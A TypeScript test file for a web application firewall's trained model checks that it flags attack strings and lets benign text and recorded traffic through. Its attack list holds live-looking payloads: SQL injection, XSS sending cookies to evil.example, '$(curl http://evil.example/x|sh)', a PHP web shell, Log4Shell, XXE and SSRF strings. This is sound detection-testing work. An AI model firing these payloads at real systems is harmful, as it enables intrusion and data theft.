// The weights as shipped, asked about texts that nobody made up for this test's sake: what they must know whatever the
// data they were made from.

import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import {
  ContentModel,
  createInspector,
  INSPECTION_DEFAULTS,
  modelDetector,
  readParts,
} from '@parapet/engine';
import { describe, expect, test } from 'vitest';
import { readSet } from '../../src/train/sources.ts';

const model = ContentModel.read(
  readFileSync(path.join(import.meta.dirname, '../../items/content/model.bin')),
);

const ATTACKS = [
  ["1' union select user, pass from users -- ", 'sqli'],
  ["-1' or '1'='1", 'sqli'],
  ['1 and (select 1 from (select sleep(5))x)', 'sqli'],
  ['<script>alert(document.cookie)</script>', 'xss'],
  ['"><svg/onload=confirm(1)>', 'xss'],
  ['javascript:fetch("//evil.example/?"+document.cookie)', 'xss'],
  ['../../../../etc/passwd', 'lfi'],
  ['..%c0%af..%c0%af..%c0%afwindows/win.ini', 'lfi'],
  ['php://filter/convert.base64-encode/resource=index.php', 'lfi'],
  ['; cat /etc/shadow', 'rce'],
  ['$(curl http://evil.example/x|sh)', 'rce'],
  ['<?php system($_GET["c"]); ?>', 'php'],
  ["{{''.__class__.__mro__[1].__subclasses__()}}", 'ssti'],
  ['${jndi:ldap://evil.example/a}', 'java'],
  ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 'xxe'],
  ['http://169.254.169.254/latest/meta-data/', 'ssrf'],
] as const;

const HONEST = [
  'a table for two on Friday, or Saturday if you are full',
  "O'Brien & Sons -- books and more",
  'Please select an item from the list and drop it into the union of both groups.',
  'Wählen Sie bitte eine Gruppe aus (mindestens 2, höchstens 10)',
  "Qu'est-ce que c'est ? L'union fait la force !",
  'https://www.example.org/path?utm_source=x&id=1#top',
  'How do I update a table in the database?',
  'SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBiYXNlNjQgdGV4dA==',
  '{"type":"Point","coordinates":[13.4,52.5]}',
  'anna.müller+list@example.org',
];

describe('the shipped model', () => {
  test.each(ATTACKS)('knows %s', (text, kind) => {
    expect(model.score(text, 'value')).toBeGreaterThan(2.7);
    expect(model.explain(text, 'value').class).toBe(kind);
  });

  test.each(HONEST)('lets %s pass', (text) => {
    expect(model.score(text, 'value')).toBeLessThan(2.7);
  });

  test('finds an attack in 64 KiB of other text', () => {
    const padding = 'The library opens at nine. '.repeat(1200);
    const text = `${padding}' union select pass from users -- ${padding}`;
    expect(model.score(text, 'value')).toBeGreaterThan(2.7);
    const { start, end } = model.explain(text, 'value');
    expect(text.slice(start, end)).toContain('union select');
  });
});

// Weights are learnt from what the decoders give: when these change what they give, the weights have to be made again.
const RECORDED = path.join(
  process.env['PARAPET_SHARED'] ?? path.resolve('../shared'),
  'data/waf/drupal-recorded-A.jsonl.gz',
);

describe.skipIf(!existsSync(RECORDED))(
  'with the decoders as they are (skipped without the shared data)',
  () => {
    test('nearly no honest request is stopped that it was learnt from', async () => {
      const inspector = createInspector({
        decode: (request) => readParts(request),
        detectors: [modelDetector(model)],
        settings: INSPECTION_DEFAULTS,
      });
      const actions = (await readSet(RECORDED))
        .filter((_, index) => index % 3 === 0)
        .map(({ request }) => inspector.inspect(request!).action);
      expect(actions.length).toBeGreaterThan(5000);
      expect(actions.filter((action) => action === 'block').length).toBeLessThan(actions.length * 0.001);
      expect(actions.filter((action) => action === 'challenge').length).toBeLessThan(actions.length * 0.003);
    });
  },
);
